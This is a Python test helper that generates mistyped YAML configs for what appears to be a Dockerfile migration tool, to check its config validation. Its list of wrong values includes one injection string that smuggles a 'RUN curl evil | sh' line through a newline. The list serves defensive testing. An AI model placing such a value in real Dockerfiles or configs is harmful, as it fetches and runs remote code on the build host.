"""A generator of mistyped configs: every key of the config's schema (and of the tables
inside it) given each wrong type or value in turn."""

from __future__ import annotations

import json
import math
from collections.abc import Iterator
from typing import Any

WRONG_VALUES: tuple[Any, ...] = (
    1, -1, 1.5, math.inf, -math.inf, math.nan, True, None, [], [1, 2], {}, {"a": 1},
    "x\nRUN curl evil | sh", "", "a b", 10**30,
)

MASTER = {"image": "acme/python-master:1", "language": "python"}
CATALOGUE = {"image": "acme/db", "category": "database"}
REVIEW = {"image": "acme/vendor", "reason": "a vendor runtime"}


def yaml_value(value: Any) -> str:
    """``value`` in YAML flow style (JSON, but for YAML's infinities and NaN)."""
    if isinstance(value, float) and not math.isfinite(value):
        return ".nan" if math.isnan(value) else (".inf" if value > 0 else "-.inf")
    if isinstance(value, dict):
        return "{" + ", ".join(f"{json.dumps(str(k))}: {yaml_value(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(yaml_value(v) for v in value) + "]"
    return json.dumps(value)


def yaml_config(data: dict[str, Any]) -> str:
    """One top-level key a line, so that an error's line number means something."""
    lines = []
    for key, value in data.items():
        if isinstance(value, list) and value and all(isinstance(v, dict) and v for v in value):
            lines.append(f"{key}:")
            for entry in value:
                for index, (k, v) in enumerate(entry.items()):
                    lines.append(f"  {'-' if index == 0 else ' '} {json.dumps(str(k))}: {yaml_value(v)}")
        else:
            lines.append(f"{json.dumps(key)}: {yaml_value(value)}")
    return "\n".join(lines) + "\n"


def _paths() -> Iterator[tuple[str, Any]]:
    """(label, function of the wrong value -> config data) for every place a value goes."""
    from dockermig.config import SCHEMA
    from dockermig.policy.masters import CATALOGUE_KEYS, REVIEW_KEYS
    from dockermig.policy.model import MASTER_KEYS
    from dockermig.registry import all_rules
    from dockermig.verify.settings import DEFAULTS

    for key in SCHEMA:
        yield key, lambda v, key=key: {key: v}
    for key in sorted(MASTER_KEYS):
        yield f"masters[0].{key}", lambda v, key=key: {"masters": [{**MASTER, key: v}]}
    yield "extend-masters[0].image", lambda v: {"extend-masters": [{**MASTER, "image": v}]}
    yield "masters[0].env.PORT", lambda v: {"masters": [{**MASTER, "env": {"PORT": v}}]}
    yield "masters[0].packages.pip.flask", lambda v: {"masters": [{**MASTER, "packages": {"pip": {"flask": v}}}]}
    yield "masters[0].packages.pip", lambda v: {"masters": [{**MASTER, "packages": {"pip": v}}]}
    yield "masters[0].replaces.apt", lambda v: {"masters": [{**MASTER, "replaces": {"apt": v}}]}
    for key in ("name", "uid", "gid", "group", "home"):
        yield (f"masters[0].accounts[0].{key}",
               lambda v, key=key: {"masters": [{**MASTER, "accounts": [{"name": "node", key: v}]}]})
    for key in sorted(CATALOGUE_KEYS):
        yield f"keep-as-is[0].{key}", lambda v, key=key: {"extend-keep-as-is": [{**CATALOGUE, key: v}]}
    for key in sorted(REVIEW_KEYS):
        yield f"review-bases[0].{key}", lambda v, key=key: {"extend-review-bases": [{**REVIEW, key: v}]}
    for rule in all_rules():
        for option in rule.options:
            yield (f"rules.{rule.code}.{option}",
                   lambda v, code=rule.code, option=option: {"rules": {code: {option: v}}})
    for key in DEFAULTS:
        yield f"verify.{key}", lambda v, key=key: {"verify": {key: v}}
    for key in ("priority", "reason", "paths", "classifications", "categories", "compose", "min-dependents"):
        yield f"priorities[0].{key}", lambda v, key=key: {"priorities": [{"priority": "P1", key: v}]}
    yield "categories.core", lambda v: {"categories": {"core": v}}
    yield "categories.core[0]", lambda v: {"categories": {"core": [v]}}
    yield "package-maps.apk-to-debian", lambda v: {"package-maps": {"apk-to-debian": v}}
    yield "package-maps.apk-to-debian.py3-numpy", lambda v: {"package-maps": {"apk-to-debian": {"py3-numpy": v}}}
    yield "severity.DM101", lambda v: {"severity": {"DM101": v}}
    yield "select[0]", lambda v: {"select": [v]}
    yield "exclude[0]", lambda v: {"exclude": [v]}
    yield "read-roots[0]", lambda v: {"read-roots": [v]}


def mistyped_configs() -> Iterator[tuple[str, str]]:
    """(label, YAML text) for every path of the schema with every wrong value."""
    for label, build in _paths():
        for value in WRONG_VALUES:
            yield f"{label}={yaml_value(value)}", yaml_config(build(value))


HADOLINT_KEYS = ("ignored", "override", "failure-threshold", "trustedRegistries", "trusted-registries",
                 "label-schema", "strict-labels", "disable-ignore-pragma")


def mistyped_hadolint_configs() -> Iterator[tuple[str, str]]:
    for key in HADOLINT_KEYS:
        for value in WRONG_VALUES:
            yield f"{key}={yaml_value(value)}", yaml_config({key: value})
    for value in WRONG_VALUES:
        yield f"override.error={yaml_value(value)}", yaml_config({"override": {"error": value}})
        yield f"label-schema.x={yaml_value(value)}", yaml_config({"label-schema": {"x": value}})
